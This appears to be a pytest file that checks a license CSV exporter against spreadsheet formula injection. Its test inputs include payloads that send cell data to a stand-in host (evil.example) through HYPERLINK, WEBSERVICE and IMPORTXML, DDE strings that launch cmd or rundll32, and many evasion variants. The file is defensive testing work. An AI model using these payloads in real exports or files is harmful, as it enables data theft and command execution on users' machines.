"""The formula table: texts that customers choose, as cells of a CSV file that some spreadsheet opens."""

import csv
import re
from io import StringIO

import pytest

from licenses.csv_export import write_csv
from tests.tables.cases import Table

# By what they are: hardware ids, addresses, and names of tiers and organizations.
TEXTS = {
    "a formula": "=1+1",
    "a link that sends cells away": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "a request": '=WEBSERVICE("https://evil.example/"&B2)',
    "an import": '=IMPORTXML(CONCAT("https://evil.example/",A1:A9),"//a")',
    "an image": '=IMAGE("https://evil.example/a.png")',
    "a program, by DDE": "=cmd|' /C calc'!A0",
    "a program, by a plus": "+cmd|' /C calc'!A0",
    "a program, by a minus": "-2+3+cmd|' /C calc'!A0",
    "a program, by an at sign": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a program, by its path": "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "an array": "{=1+1}|=1+1",
    "a plus": "+1234567890",
    "a minus": "-1234",
    "an at sign": "@here",
    "a sign alone": "=",
    "two signs": "==1",
    "signs of all kinds": "=+-@",
    "a tab": "\t=1+1",
    "a tab alone": "\tlaptop",
    "a carriage return": "\r=1+1",
    "a carriage return alone": "\rlaptop",
    "a line feed": "\n=1+1",
    "a line feed alone": "\nlaptop",
    "both": "\r\n=1+1",
    "a space": " =1+1",
    "spaces of many kinds": " \u00a0\u2003\u3000=1+1",
    "a mark of the byte order": "\ufeff=1+1",
    "a space of no width": "\u200b=1+1",
    "a soft hyphen": "\u00ad=1+1",
    "a control character": "\x01=1+1",
    "an escape": "\x1b=1+1",
    "a form feed": "\x0c=1+1",
    "a comma": "laptop,=1+1",
    "a semicolon": "laptop;=1+1",
    "a semicolon and a space": "laptop; @SUM(1)",
    "a bar": "laptop|+1",
    "a tab within": "laptop\t-1",
    "a quote": '"=1+1',
    "a quote that closes": 'laptop",=1+1,"',
    "a quote that closes for others": 'laptop";=1+1;"',
    "an apostrophe": "'=1+1",
    "an apostrophe and a semicolon": "';=1+1",
    "a line within": "laptop\n=1+1",
    "a line within, of Windows": "laptop\r\n@SUM(1)",
    "a line within, of no keyboard": "laptop\u2028=1+1",
    "a next line": "laptop\x85=1+1",
    "a sign of full width": "\uff1d1+1",
    "a plus of full width": "\uff0b1",
    "a minus of full width": "\uff0d1",
    "an at sign of full width": "\uff20SUM(1)",
    "an address": "=cmd|'/C calc'!A0@evil.example",
    "an address with a plus": "+ada@evil.example",
    "an address with a quote": '"=1+1"@evil.example',
    "a hardware id": "-4C4C4544-0051-3510",
    "a hardware id by its hash": "@sha256:9f86d081",
    "a tier": "+Plus",
}
HARMLESS = [
    *("laptop", "mac-address-hash-xyz", "4C:4C:45:44", "ada@example.com", "ada+ci@example.com", "pro", "Pro+", "1=1"),
    *("Acme, Inc.", 'The "Best"', "Größe & Söhne", "東京", "", " ", "3.5", "a-b", "x = y", "it's", "O'Brien"),
]
DELIMITERS = ",;\t|"
# What a spreadsheet may pass over before it looks whether a formula begins.
PASSED_OVER = re.compile('^[\\s\x00-\x1f\x7f-\x9f\xad\u200b-\u200f\ufeff"]+')
SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def cells_of(file: str, delimiter: str) -> list[str]:
    """The cells, as a program sees them that takes this delimiter for the right one, and one that knows no quotes."""
    quoted = [cell for row in csv.reader(StringIO(file, newline=""), delimiter=delimiter) for cell in row]
    return quoted + re.split(f"[{delimiter}\r\n]", file)


def runs(cell: str) -> bool:
    """Whether a spreadsheet would compute a cell."""
    return cell.startswith(("\t", "\r", "\n")) or PASSED_OVER.sub("", cell).startswith(SIGNS)


def read_back(text: str) -> str:
    """What a program that reads CSV as it is written finds in the cell."""
    (row,) = csv.reader(StringIO(write_csv(["tier", "peak"], [(text, 1)]), newline="").readlines()[1:])
    return row[0]


def test_formulas() -> None:
    table = Table("formula")
    for name, text in TEXTS.items():
        for place in ("first", "last"):
            row = (text, 7) if place == "first" else (7, text)
            file = write_csv(["one", "two"], [row])
            found = [cell for delimiter in DELIMITERS for cell in cells_of(file, delimiter) if runs(cell)]
            table.judge(f"{name}, as the {place} cell: {found}", is_good=not found)
    table.done()


@pytest.mark.parametrize("text", HARMLESS)
def test_leaves_alone_what_does_no_harm(text: str) -> None:
    assert read_back(text) == text


def test_adds_nothing_but_apostrophes() -> None:
    table = Table("formula")
    for name, text in TEXTS.items():
        (_, row) = csv.reader(StringIO(write_csv(["one"], [(text,)]), newline=""))
        table.judge(name, is_good=row[0].replace("'", "") == text.replace("'", ""))
    table.done()


def test_leaves_numbers_alone() -> None:
    assert write_csv(["low", "high"], [(-1, 2.5)]) == "low,high\r\n-1,2.5\r\n"
